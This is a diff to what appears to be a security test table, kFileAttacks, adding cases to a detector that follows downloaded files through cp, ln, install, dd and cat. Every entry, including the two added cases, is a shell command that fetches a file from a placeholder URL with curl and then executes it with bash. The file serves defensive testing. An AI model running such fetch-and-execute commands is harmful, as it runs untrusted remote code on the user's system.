@@ -57,6 +57,10 @@ const Attack kFileAttacks[] = {
     FILE_CASE("a symbolic link", "curl -s -o @D/f @URL; ln -s @D/f @D/g; bash @D/g"),
     FILE_CASE("cp", "curl -s -o @D/f @URL; cp @D/f @D/g; bash @D/g"),
     FILE_CASE("cp twice", "curl -s -o @D/f @URL; cp @D/f @D/g; cp @D/g @D/h; bash @D/h"),
+    FILE_CASE("cp after another", "curl -s -o @D/f @URL; cp @D/f @D/e; mkdir @D/d; "
+                                  "cp @D/e @D/local.sh @D/f @D/d; bash @D/d/f"),
+    FILE_CASE("cp of a folder", "mkdir @D/d; cp @D/local.sh @D/d; curl -s -o @D/d/f @URL; "
+                                "cp -r @D/d @D/c; bash @D/c/f"),
     FILE_CASE("install", "curl -s -o @D/f @URL; install -m 755 @D/f @D/g; bash @D/g"),
     FILE_CASE("dd", "curl -s -o @D/f @URL; dd if=@D/f of=@D/g status=none; bash @D/g"),
     FILE_CASE("cat into another", "curl -s -o @D/f @URL; cat @D/f > @D/g; bash @D/g"),
